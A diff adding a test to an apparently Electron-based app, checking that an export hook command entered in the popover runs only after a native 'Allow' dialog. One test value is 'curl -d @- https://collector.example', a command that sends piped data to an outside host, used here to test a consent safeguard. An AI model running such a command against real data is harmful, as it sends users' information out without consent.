@@ -109,6 +109,20 @@ describe('the running app', () => {
     await vault.deleteProfile(id);
   });
 
+  it('a hook command set from the popover runs only after a native "Allow" dialog', async () => {
+    const id = await seedProfile();
+    await start(['electron', '.', '--hidden']);
+    fake.__test.world.dialogResponse = 1; // Cancel
+    const declined = (await fake.ipcMain.invoke(ipcName('profiles:update'), { profileId: id, exportHookCommand: 'curl -d @- https://collector.example' })) as Result<AppState>;
+    expect(declined).toMatchObject({ ok: false, error: { kind: 'invalid-input' } });
+    expect(String(fake.__test.world.messageBoxes.at(-1)?.detail)).toContain('curl -d @- https://collector.example');
+    fake.__test.world.dialogResponse = 0; // Allow
+    const allowed = (await fake.ipcMain.invoke(ipcName('profiles:update'), { profileId: id, exportHookCommand: 'cat > /dev/null' })) as Result<AppState>;
+    expect(allowed.ok).toBe(true);
+    if (allowed.ok) expect(allowed.value.profiles.find((p) => p.id === id)?.exportHookCommand).toBe('cat > /dev/null');
+    await vault.deleteProfile(id);
+  });
+
   it('"Refresh now" in the tray menu refreshes, and state changes reach the popover', async () => {
     const id = await seedProfile();
     const app = await start();
